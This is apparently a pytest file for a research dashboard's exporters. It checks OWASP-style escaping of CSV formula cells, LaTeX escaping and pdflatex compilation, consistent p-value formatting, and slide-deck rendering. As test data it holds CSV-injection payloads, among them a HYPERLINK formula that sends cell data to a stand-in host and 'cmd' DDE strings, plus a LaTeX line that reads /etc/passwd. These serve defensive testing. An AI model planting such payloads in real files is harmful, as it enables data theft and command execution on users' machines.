"""Exports: CSV cells a spreadsheet would evaluate, LaTeX that pdflatex compiles,
one p formatter, the slide deck's time limit.

The rules held: a CSV cell that starts with ``=``, ``+``, ``-``, ``@``, tab or CR is written with
a leading single quote (OWASP's CSV-injection guidance), numbers stay numbers, and the
project's readers give the original text back; a LaTeX export is ASCII with every special
character escaped and compiles with pdflatex; p below a thousandth prints ``<0.001`` everywhere.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import time
from pathlib import Path

import pandas as pd
import plotly.graph_objects as go
import pytest

from dashboard.exports import formats as export
from engine.storage.csv_cells import escape_cell, safe_csv, unescape_cell
from tests.support.cli_run import cli

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "\t=1+1", "\r=1+1", "=1+1", "'=already quoted", "''-twice"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _evaluated(cell: str) -> bool:
    """What a spreadsheet would take as a formula: a cell starting with one of OWASP's
    characters that is not a plain number."""
    return cell.startswith(FORMULA_START) and not re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell)


# ------------------------------------------------------------------------------ CSV, the rule
@pytest.mark.parametrize("text, written", [
    ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"), ("+cmd|x", "'+cmd|x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("-2+3", "'-2+3"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-0.5", "-0.5"), ("+3", "+3"), ("1e-4", "1e-4"), ("-1.5E+3", "-1.5E+3"),  # numbers stay numbers
    ("plain", "plain"), ("a=b", "a=b"), ("", ""),
    ("'=x", "''=x"), ("'plain", "'plain"),  # already quoted before a formula: one more quote
])
def test_a_cell_is_escaped_as_owasp_says_and_reads_back(text, written):
    assert escape_cell(text) == written
    assert unescape_cell(written) == text


def test_numbers_and_missing_values_are_not_touched():
    table = pd.DataFrame({"g": [-0.25, 1.5], "n": [-3, 4], "text": [None, "-x"]})
    lines = safe_csv(table).splitlines()
    assert lines == ["g,n,text", "-0.25,-3,", "1.5,4,'-x"]


# ------------------------------------------------------------------------------ CSV, the dashboard
def test_dashboard_csv_download_escapes_cells_names_and_index_and_reads_back():
    """Before: ``table_to_csv`` wrote ``=HYPERLINK(...)`` etc. verbatim (a spreadsheet runs them)."""
    table = pd.DataFrame({"=cmd|x": PAYLOADS, "value": range(len(PAYLOADS))},
                         index=pd.Index([f"-row{i}" for i in range(len(PAYLOADS))], name="@name"))
    text = export.table_to_csv(table).decode("utf-8")
    cells = _cells(text)
    assert not [c for c in cells if _evaluated(c)], [c for c in cells if _evaluated(c)]
    assert cells[:3] == ["'@name", "'=cmd|x", "value"]
    # the project's reader of uploads and feature tables gives the original text back
    from engine.storage.records import read_csv_records

    path = Path(os.environ.get("TMPDIR", "/tmp")) / f"export_escaping_{os.getpid()}.csv"
    path.write_text(text, encoding="utf-8", newline="")
    try:
        header, records = read_csv_records(path)
    finally:
        path.unlink()
    assert header == ["@name", "=cmd|x", "value"]
    assert [r.values["=cmd|x"] for r in records] == PAYLOADS  # "\r=1+1" too: a cell with a CR is quoted


def test_rating_export_csv_escapes_the_ideas_people_typed():
    """The Rate ideas page's "Download the ratings (CSV)" (engine.judging.human_rating.export_csv)."""
    from engine.judging import human_rating

    class Export:
        table = pd.DataFrame({"idea": ["=1+1", "a doorstop"], "novelty": [3.0, 7.0]})

    assert human_rating.export_csv(Export()).decode().splitlines() == ["idea,novelty", "'=1+1,3.0", "a doorstop,7.0"]


# ------------------------------------------------------------------------------ CSV, the CLI
@pytest.fixture(scope="module")
def hostile_ideas(tmp_path_factory):
    from tests.support.ideas_fixture import RELEASE, build_ideas

    if not RELEASE.exists():
        pytest.skip(f"paper A's released metrics file is not at {RELEASE}")
    frame = build_ideas()
    typed = [p for p in PAYLOADS if "\r" not in p]  # pandas writes a lone CR bare: the file would break there
    frame.loc[frame.index[: len(typed)], "final_idea"] = typed
    path = tmp_path_factory.mktemp("hostile") / "ideas_with_ratings_clean.csv"
    frame.to_csv(path, index=False)  # a user's file: the formulas as typed
    return path, frame


def test_import_table_output_escapes_formulas_and_reads_back(hostile_ideas, tmp_path):
    """Before: ``import ... -o x.csv`` (engine.cli.data.write_table) wrote the ideas verbatim."""
    source, frame = hostile_ideas
    out = tmp_path / "ideas.csv"
    outcome = cli(["import", source, out, "--kind", "ideas"])
    assert outcome.code == 0, outcome.err[-2000:]
    text = out.read_text(encoding="utf-8")
    cells = _cells(text)
    assert not [c for c in cells if _evaluated(c)], [c for c in cells if _evaluated(c)][:5]
    # a cell typed with a quote before a formula ("'=already quoted") is read as a spreadsheet
    # reads it (the text "=already quoted"), and written escaped again
    assert {"'=1+1", "'-2+3", "'=already quoted", "''-twice"} <= set(cells)
    from engine.storage.records import read_csv_records

    _, records = read_csv_records(out)  # the reader of analyze and the uploads: the ideas as typed
    texts = {r.values["final_idea"] for r in records}
    assert {unescape_cell(p) for p in PAYLOADS if "\r" not in p} <= texts


def test_import_to_stdout_and_analyze_out_escape_too(tmp_path):
    """``emit_table`` to stdout (engine.cli.data) and ``analyze ... --out x.csv`` (engine.cli.analyze._write)."""
    from engine.cli.analyze import _write
    from engine.cli.data import emit_table

    table = pd.DataFrame({"model": ["=HYPERLINK(\"x\")", "gpt"], "g": [-0.5, 0.25]})
    buffer = io.StringIO()
    import contextlib

    with contextlib.redirect_stdout(buffer):
        emit_table(table, None, "csv")
    assert buffer.getvalue().splitlines() == ["model,g", '"\'=HYPERLINK(""x"")",-0.5', "gpt,0.25"]
    out = tmp_path / "analysis.csv"
    with contextlib.redirect_stdout(io.StringIO()):
        _write(str(out), table, {})
    assert out.read_text().splitlines() == ["model,g", '"\'=HYPERLINK(""x"")",-0.5', "gpt,0.25"]


def test_analyze_out_of_a_feature_table_with_formula_labels(tmp_path):
    """End to end: a feature table whose model is a formula, ``analyze compare --out x.csv``."""
    import numpy as np

    from engine.measures.trajectory import PAPER_A_FEATURES

    rng = np.random.default_rng(0)
    n = 40
    table = pd.DataFrame({"conversation_id": [f"c{i}" for i in range(n)], "source": ["llm", "human"] * (n // 2),
                          "task": ["=1+1"] * n, "model": ["@SUM(1)"] * n,
                          **{f: rng.normal(size=n) for f in PAPER_A_FEATURES}})
    source = tmp_path / "features.csv"
    table.to_csv(source, index=False)
    out = tmp_path / "compare.csv"
    outcome = cli(["analyze", "compare", "--metrics", source, "--value", "global_coherence", "--by", "task",
                   "--out", out])
    assert outcome.code == 0, outcome.err[-2000:]
    cells = _cells(out.read_text())
    assert "'=1+1" in cells, cells[:40]
    assert not [c for c in cells if _evaluated(c)]


# ------------------------------------------------------------------------------ LaTeX
HOSTILE = r"\input{/etc/passwd} & 100% $x$ #1 _a ^b ~c {d} <0.001 > | − R² Δ é"


def _latex_table() -> str:
    table = pd.DataFrame({r"\input{/etc/passwd}": [HOSTILE, "plain"], "g": [-0.51234, 1.0], "p": [1e-6, 0.0456],
                          "p (Holm)": [0.0004, float("nan")]},
                         index=pd.Index([r"\input{/etc/passwd}", "x_y"], name=r"\input{/etc/passwd}"))
    return export.table_to_latex(table, caption="LLM − human, p <0.001: " + HOSTILE, label=r"tab:x}\input{y")


def _pdflatex_rules_broken(tex: str) -> list[str]:
    """The source checked against what pdflatex takes with no package: ASCII only, and in
    every text no special character (& % $ # _ { } ~ ^ \\) outside the commands we write, no
    < > | in text mode (OT1 prints them as other glyphs)."""
    problems = [f"non-ASCII {c!r}" for c in sorted(set(tex)) if ord(c) > 126 or (ord(c) < 32 and c != "\n")]
    allowed = re.compile(r"\\textbackslash\{\}|\\textasciitilde\{\}|\\textasciicircum\{\}|\\[&%$#_{}]|"
                         r"\$(?:-|<|>|\||\^\{\d\}|\\[A-Za-z]+)\$|\\[`'\"^~]\{[A-Za-z]\}|--")
    for line in tex.splitlines():
        if line.startswith(("\\begin{", "\\end{", "\\centering", "\\toprule", "\\midrule", "\\bottomrule")):
            continue
        body = line
        for command in ("\\caption{", "\\label{"):
            if body.startswith(command):
                assert body.endswith("}"), line
                body = body[len(command):-1]
        body = re.sub(r" \\\\$", "", body)
        cells = body.split(" & ")
        for cell in cells:
            rest = allowed.sub("", cell)
            bad = [c for c in rest if c in "&%$#_{}~^\\<>|"]
            if bad:
                problems.append(f"{bad} in {cell!r}")
    return problems


def test_latex_escapes_every_text_and_keeps_to_ascii():
    """Before: the index name went in raw (``\\input{/etc/passwd}`` in the tabular), and the
    caption carried U+2212 and ``<0.001`` in text mode."""
    tex = _latex_table()
    assert r"\input{/etc/passwd}" not in tex
    assert _pdflatex_rules_broken(tex) == []
    assert "\\textbackslash{}input\\{/etc/passwd\\}" in tex  # shown, not run
    assert "LLM $-$ human, p $<$0.001" in tex  # math minus, math less-than
    assert "\\label{tab:xinputy}" in tex
    row = next(line for line in tex.splitlines() if line.startswith("x\\_y"))
    assert row == "x\\_y & plain & 1.000 & 0.046 & -- \\\\"
    first = next(line for line in tex.splitlines() if "$-$0.512" in line)
    assert first.endswith("& $-$0.512 & $<$0.001 & $<$0.001 \\\\")  # p as the pages print it, never 0.000


def _pdflatex() -> str | None:
    found = shutil.which("pdflatex")
    if found:
        return found
    if os.geteuid() == 0 and shutil.which("apt-get"):  # Debian's texlive-latex-base, when apt is reachable
        subprocess.run(["apt-get", "install", "-y", "--no-install-recommends", "texlive-latex-base"],
                       capture_output=True, timeout=900, env={**os.environ, "DEBIAN_FRONTEND": "noninteractive"})
    return shutil.which("pdflatex")


def test_latex_compiles_with_pdflatex(tmp_path):
    pdflatex = _pdflatex()
    if pdflatex is None:
        pytest.skip("pdflatex is not installed and Debian's texlive-latex-base could not be installed "
                    "(not root, or no apt); the source rules are checked by the test above")
    document = ("\\documentclass{article}\n"
                "\\IfFileExists{booktabs.sty}{\\usepackage{booktabs}}{\\newcommand{\\toprule}{\\hline}"
                "\\newcommand{\\midrule}{\\hline}\\newcommand{\\bottomrule}{\\hline}}\n"
                "\\begin{document}\n" + _latex_table() + "\\end{document}\n")
    (tmp_path / "table.tex").write_text(document, encoding="utf-8")
    # fonts made on the fly go to this folder, not the home folder
    env = {**os.environ, "TEXMFVAR": str(tmp_path / "texmf-var"), "openin_any": "p"}
    done = subprocess.run([pdflatex, "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape", "table.tex"],
                          cwd=tmp_path, capture_output=True, text=True, timeout=300, env=env)
    log = (tmp_path / "table.log").read_text(errors="replace")
    assert done.returncode == 0, log[-3000:]
    assert (tmp_path / "table.pdf").stat().st_size > 1000
    assert "Missing character" not in log and "/etc/passwd)" not in log and "Unicode character" not in log


# ------------------------------------------------------------------------------ one p formatter
def test_the_hedges_table_prints_p_as_the_regression_table_does():
    """Before: the Design levers Hedges table (``fidelity_levers``) and the LaTeX export printed
    p = 0.000 where the regression table printed <0.001."""
    from dashboard.figures import labels
    from dashboard.page_data import fidelity_levers
    from engine.stats.p_format import format_p

    assert labels.format_p is format_p
    assert [format_p(p) for p in (0.0, 2e-7, 0.000999, 0.001, 0.0456, float("nan"), None)] == \
        ["<0.001", "<0.001", "<0.001", "0.001", "0.046", "–", "–"]
    source = Path(fidelity_levers.__file__).read_text()
    assert '"p (Holm, 9 features)": diff["p_holm"].map(format_p)' in source
    page = export.html_report("r", [export.ReportItem("t", table=pd.DataFrame({"g": [0.5], "p": [1e-5]}))])
    assert "<td>&lt;0.001</td>" in page and "1e-05" not in page


# ------------------------------------------------------------------------------ slide deck
def test_slide_deck_says_which_slides_failed_and_keeps_the_others():
    """A slide whose render fails is named in slides.txt; the rest arrive (scripted renderer)."""
    import zipfile

    figure = go.Figure(go.Bar(x=["a"], y=[1]))
    items = [export.ReportItem(f"F{i}", figure=figure, provenance="dataset x, 1 of 1 conversations selected")
             for i in range(3)]

    def render(figures, **limits):
        assert limits["slide_limit"] == export.SLIDE_LIMIT_S and limits["deck_limit"] == export.DECK_LIMIT_S
        return [b"\x89PNG one", "not rendered within 60 s", b"\x89PNG three"]

    deck = export.make_slide_deck(items, render=render)
    assert deck.made == ["01_f0.png", "03_f2.png"] and deck.failed == [("02_f1.png", "not rendered within 60 s")]
    archive = zipfile.ZipFile(io.BytesIO(deck.data))
    assert sorted(archive.namelist()) == ["01_f0.png", "03_f2.png", "slides.txt"]
    assert "02_f1.png NOT MADE (not rendered within 60 s): F1" in archive.read("slides.txt").decode()
    with pytest.raises(RuntimeError, match="no slide could be made"):
        export.make_slide_deck(items, render=lambda figures, **_: ["browser gone"] * len(figures))


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("chromium") is None, reason="needs Debian's chromium for kaleido")
def test_slide_deck_renders_in_one_session_within_its_limit():
    """Twelve slides in one kaleido session; before, one browser per slide (5.4 s a slide here,
    43.6 s for 8). A deck limit shorter than the work ends on time, naming what was not made."""
    figures = [go.Figure(go.Bar(x=["a", "b"], y=[i, 2])) for i in range(12)]
    started = time.monotonic()
    pngs = export.render_pngs(figures, width=400, height=300)
    took = time.monotonic() - started
    assert all(isinstance(p, bytes) and p.startswith(b"\x89PNG") for p in pngs), [p for p in pngs if not isinstance(p, bytes)]
    assert took < 12 * 5.4 / 2, took  # well under one browser a slide
    started = time.monotonic()
    cut = export.render_pngs(figures * 5, width=400, height=300, deck_limit=6)
    assert time.monotonic() - started < 6 + 35
    assert any(isinstance(p, str) and "time limit of 6 s" in p for p in cut)
